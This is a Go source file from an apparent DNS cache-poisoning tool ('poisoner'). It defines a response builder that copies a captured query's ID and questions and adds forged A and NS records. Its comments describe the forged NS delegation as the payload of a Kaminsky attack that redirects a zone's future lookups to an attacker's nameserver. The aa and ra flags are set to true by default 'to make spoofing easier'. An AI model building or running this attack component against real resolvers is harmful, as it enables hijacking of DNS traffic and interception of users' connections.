// Package response builds forged or genuine DNS responses from a
// captured query, per spec §4.6: a Response wraps the query's header and
// questions and accumulates typed answer/authority/additional records
// that convert to generic resource records at materialization time.
package response

import (
	"fmt"

	"github.com/dnskaminsky/poisoner/internal/dnscodec"
)

// TypedRecord is the tagged variant spec §3 describes: a record that
// knows how to encode its own rdata.
type TypedRecord interface {
	toRR() (dnscodec.ResourceRecord, error)
}

// A is a typed A (IPv4 address) record.
type A struct {
	Name dnscodec.Hostname
	TTL  uint32
	IP   [4]byte
}

func (a A) toRR() (dnscodec.ResourceRecord, error) {
	return dnscodec.ResourceRecord{
		Name:  a.Name,
		RType: dnscodec.TypeA,
		Class: dnscodec.ClassIN,
		TTL:   a.TTL,
		RData: a.IP[:],
	}, nil
}

// NS is a typed NS (nameserver delegation) record — the forged payload
// of a Kaminsky attack: a cached NS substitution redirects every future
// lookup under the delegated zone to the attacker's nameserver.
type NS struct {
	Name dnscodec.Hostname
	TTL  uint32
	NS   dnscodec.Hostname
}

func (n NS) toRR() (dnscodec.ResourceRecord, error) {
	rdata, err := n.NS.Encode()
	if err != nil {
		return dnscodec.ResourceRecord{}, fmt.Errorf("response: encode NS target: %w", err)
	}
	return dnscodec.ResourceRecord{
		Name:  n.Name,
		RType: dnscodec.TypeNS,
		Class: dnscodec.ClassIN,
		TTL:   n.TTL,
		RData: rdata,
	}, nil
}

// Response builds a reply message mirroring a captured query. Defaults
// to AuthoritativeAnswer=true, RecursionAvailable=true — spec §3/§9: the
// source hard-codes both true "to make spoofing easier." Fields are
// exported rather than hidden behind an options type, matching the
// original's plain public struct.
type Response struct {
	Query              dnscodec.Message
	Rcode              uint8
	AuthoritativeAnswer bool
	RecursionAvailable bool

	answers     []TypedRecord
	authorities []TypedRecord
	additionals []TypedRecord
}

// New wraps a captured query, defaulting aa=true, ra=true.
func New(query dnscodec.Message) *Response {
	return &Response{
		Query:              query,
		AuthoritativeAnswer: true,
		RecursionAvailable:  true,
	}
}

// AddAnswer appends a typed record to the answer section.
func (r *Response) AddAnswer(rec TypedRecord) {
	r.answers = append(r.answers, rec)
}

// AddAuthority appends a typed record to the authority section.
func (r *Response) AddAuthority(rec TypedRecord) {
	r.authorities = append(r.authorities, rec)
}

// AddAdditional appends a typed record to the additional section.
func (r *Response) AddAdditional(rec TypedRecord) {
	r.additionals = append(r.additionals, rec)
}

// ToMessage materializes the response as a full Message: copies the
// query's header ID and questions, sets qr=true and the aa/ra/rcode
// fields, and converts each typed record to a generic resource record.
func (r *Response) ToMessage() (dnscodec.Message, error) {
	answers, err := convertAll(r.answers)
	if err != nil {
		return dnscodec.Message{}, fmt.Errorf("response: answer section: %w", err)
	}
	authorities, err := convertAll(r.authorities)
	if err != nil {
		return dnscodec.Message{}, fmt.Errorf("response: authority section: %w", err)
	}
	additionals, err := convertAll(r.additionals)
	if err != nil {
		return dnscodec.Message{}, fmt.Errorf("response: additional section: %w", err)
	}

	header := r.Query.Header
	header.QR = true
	header.AA = r.AuthoritativeAnswer
	header.RA = r.RecursionAvailable
	header.Rcode = r.Rcode
	header.ANCount = uint16(len(answers))
	header.NSCount = uint16(len(authorities))
	header.ARCount = uint16(len(additionals))

	return dnscodec.Message{
		Header:      header,
		Questions:   r.Query.Questions,
		Answers:     answers,
		Authorities: authorities,
		Additionals: additionals,
	}, nil
}

func convertAll(recs []TypedRecord) ([]dnscodec.ResourceRecord, error) {
	if len(recs) == 0 {
		return nil, nil
	}
	out := make([]dnscodec.ResourceRecord, 0, len(recs))
	for _, rec := range recs {
		rr, err := rec.toRR()
		if err != nil {
			return nil, err
		}
		out = append(out, rr)
	}
	return out, nil
}
